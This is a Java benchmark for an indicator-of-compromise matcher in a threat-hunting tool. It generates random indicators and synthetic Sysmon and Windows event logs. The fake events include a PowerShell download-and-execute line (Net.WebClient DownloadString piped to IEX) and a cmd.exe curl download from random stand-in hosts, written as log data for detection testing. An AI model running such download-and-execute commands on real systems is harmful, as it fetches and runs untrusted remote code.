package io.vigil.ioc;

import io.vigil.core.event.Event;
import io.vigil.core.event.Provenance;
import io.vigil.ioc.load.CsvLoader;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;

/**
 * Matching throughput with 10, 1,000 and 100,000 random indicators over the same synthetic events, to show
 * that lookups do not loop over indicators. Not a unit test; run it by hand (command and last figures
 * in docs/ioc.md).
 *
 * <p>Events: a mix of Sysmon process creation (Hashes, Image, CommandLine with a URL), network
 * connection (SourceIp, DestinationIp, DestinationHostname), DNS query, file creation, pipe creation,
 * Security 4624 (IpAddress) and PowerShell 4104 (ScriptBlockText). One event in 100 carries a value
 * from the indicator set. The sets are measured in turn, each pass over fresh copies of the same
 * events built untimed just before it, so that the lower-casing {@link Event#folded} caches is paid
 * inside the timing, as in a real hunt.
 */
public final class IocMatchBenchmark {
    private static final int EVENTS = 200_000;
    private static final String HEX = "0123456789abcdef";

    private IocMatchBenchmark() {}

    public static void main(String[] args) {
        int rounds = args.length > 0 ? Integer.parseInt(args[0]) : 11;
        System.out.printf(
                Locale.ROOT,
                "%,d events per pass, %d interleaved rounds, JVM max heap %,d MB, %d CPUs%n",
                EVENTS,
                rounds,
                Runtime.getRuntime().maxMemory() >> 20,
                Runtime.getRuntime().availableProcessors());
        int[] sizes = {10, 1_000, 100_000};
        Setup[] setups = new Setup[sizes.length];
        for (int k = 0; k < sizes.length; k++) {
            setups[k] = setup(sizes[k]);
        }
        // interleave the sets so that JIT warm-up, GC and machine load hit both alike
        double[][] rates = new double[sizes.length][rounds];
        long[] hits = new long[sizes.length];
        for (int r = 0; r < rounds; r++) {
            for (int k = 0; k < sizes.length; k++) {
                Event[] events = events(new Random(42 + r), setups[k].planted);
                System.gc();
                long[] count = new long[1];
                long start = System.nanoTime();
                for (Event e : events) {
                    setups[k].matcher.match(e, h -> count[0]++);
                }
                rates[k][r] = EVENTS / ((System.nanoTime() - start) / 1e9);
                hits[k] = count[0];
            }
        }
        for (int k = 0; k < sizes.length; k++) {
            double[] sorted = rates[k].clone();
            java.util.Arrays.sort(sorted);
            // the first round is warm-up; report the median of the rest and the best
            double[] measured = java.util.Arrays.copyOfRange(rates[k], 1, rounds);
            java.util.Arrays.sort(measured);
            double median = measured[measured.length / 2];
            System.out.printf(
                    Locale.ROOT,
                    "%,7d indicators (%,d comparisons): loaded+indexed in %,5d ms; median %,.0f "
                            + "events/s (%.2f us/event), best %,.0f; %,d hits per pass%n",
                    sizes[k],
                    setups[k].matcher.set().countsByType().values().stream()
                            .mapToInt(i -> i)
                            .sum(),
                    setups[k].loadMs,
                    median,
                    1e6 / median,
                    sorted[sorted.length - 1],
                    hits[k]);
        }
    }

    private record Setup(IocMatcher matcher, List<String[]> planted, long loadMs) {}

    private static Setup setup(int size) {
        Random rnd = new Random(size);
        StringBuilder csv = new StringBuilder("type,value\n");
        List<String[]> planted = new ArrayList<>();
        String[] types = {"md5", "sha256", "domain", "ip-dst", "ip", "filename", "url", "named pipe"};
        for (int i = 0; i < size; i++) {
            String type = types[i % types.length];
            String value = switch (type) {
                case "md5" -> hex(rnd, 32);
                case "sha256" -> hex(rnd, 64);
                case "domain" -> word(rnd, 10) + "." + word(rnd, 3);
                case "ip-dst" -> ip(rnd);
                case "ip" -> {
                    String a = ip(rnd);
                    yield a.substring(0, a.lastIndexOf('.')) + ".0/" + ((i / 8) % 16 == 0 ? "16" : "24");
                }
                case "filename" -> word(rnd, 8) + ".exe";
                case "url" -> "http://" + word(rnd, 8) + ".example/" + word(rnd, 6) + ".php";
                default -> word(rnd, 12);
            };
            csv.append(type).append(',').append(value).append('\n');
            if (planted.size() < 64) {
                planted.add(new String[] {type, value});
            }
        }
        long t0 = System.nanoTime();
        IocSet set = CsvLoader.load("bench.csv", csv.toString().getBytes(StandardCharsets.UTF_8), d -> {
            throw new IllegalStateException(d.toString());
        });
        long loadMs = (System.nanoTime() - t0) / 1_000_000;
        return new Setup(new IocMatcher(set), planted, loadMs);
    }

    private static Event[] events(Random rnd, List<String[]> planted) {
        Event[] out = new Event[EVENTS];
        Instant t = Instant.parse("2024-03-01T00:00:00Z");
        for (int i = 0; i < EVENTS; i++) {
            Map<String, Object> f = new LinkedHashMap<>();
            String[] plant = i % 100 == 0 ? planted.get(rnd.nextInt(planted.size())) : null;
            switch (i % 7) {
                case 0 -> {
                    f.put("EventID", 1L);
                    f.put(
                            "Image",
                            "C:\\Users\\u" + i % 50 + "\\AppData\\Local\\Temp\\"
                                    + pick(plant, "filename", word(rnd, 8) + ".exe"));
                    f.put(
                            "CommandLine",
                            "cmd.exe /c curl " + pick(plant, "url", "http://" + word(rnd, 7) + ".example/x.php")
                                    + " -o out.bin && ping " + ip(rnd));
                    f.put(
                            "Hashes",
                            "SHA1=" + hex(rnd, 40) + ",MD5=" + pick(plant, "md5", hex(rnd, 32)) + ",SHA256="
                                    + pick(plant, "sha256", hex(rnd, 64)) + ",IMPHASH=" + hex(rnd, 32));
                    f.put("User", "CORP\\u" + i % 50);
                }
                case 1 -> {
                    f.put("EventID", 3L);
                    f.put("SourceIp", "10.1." + rnd.nextInt(256) + "." + rnd.nextInt(256));
                    f.put("DestinationIp", pick(plant, "ip-dst", ip(rnd)));
                    f.put("DestinationHostname", word(rnd, 9) + ".example.org");
                    f.put("DestinationPort", 443L);
                }
                case 2 -> {
                    f.put("EventID", 22L);
                    f.put("QueryName", "www." + pick(plant, "domain", word(rnd, 10) + ".com"));
                    f.put("QueryResults", "::ffff:" + ip(rnd) + ";");
                }
                case 3 -> {
                    f.put("EventID", 11L);
                    f.put(
                            "TargetFilename",
                            "C:\\ProgramData\\" + word(rnd, 6) + "\\" + pick(plant, "filename", word(rnd, 8) + ".dat"));
                }
                case 4 -> {
                    f.put("EventID", 17L);
                    f.put("PipeName", "\\" + pick(plant, "named pipe", word(rnd, 12)));
                }
                case 5 -> {
                    f.put("EventID", 4624L);
                    f.put("TargetUserName", "u" + i % 50);
                    f.put("IpAddress", "::ffff:" + pick(plant, "ip-dst", ip(rnd)));
                    f.put("LogonType", 3L);
                }
                default -> {
                    f.put("EventID", 4104L);
                    f.put(
                            "ScriptBlockText",
                            "$wc = New-Object Net.WebClient; $wc.DownloadString('https://"
                                    + pick(plant, "domain", word(rnd, 8) + ".net") + "/a.ps1') | IEX # "
                                    + word(rnd, 40));
                }
            }
            f.put("Computer", "ws" + i % 500 + ".corp.example");
            out[i] = Event.of(f, t.plusMillis(i), Provenance.record("bench.evtx", i));
        }
        return out;
    }

    private static String pick(String[] plant, String type, String otherwise) {
        return plant != null && plant[0].equals(type) ? plant[1] : otherwise;
    }

    private static String hex(Random rnd, int n) {
        char[] c = new char[n];
        for (int i = 0; i < n; i++) {
            c[i] = HEX.charAt(rnd.nextInt(16));
        }
        return new String(c);
    }

    private static String word(Random rnd, int n) {
        char[] c = new char[n];
        for (int i = 0; i < n; i++) {
            c[i] = (char) ('a' + rnd.nextInt(26));
        }
        return new String(c);
    }

    private static String ip(Random rnd) {
        return (11 + rnd.nextInt(200)) + "." + rnd.nextInt(256) + "." + rnd.nextInt(256) + "." + (1 + rnd.nextInt(254));
    }
}
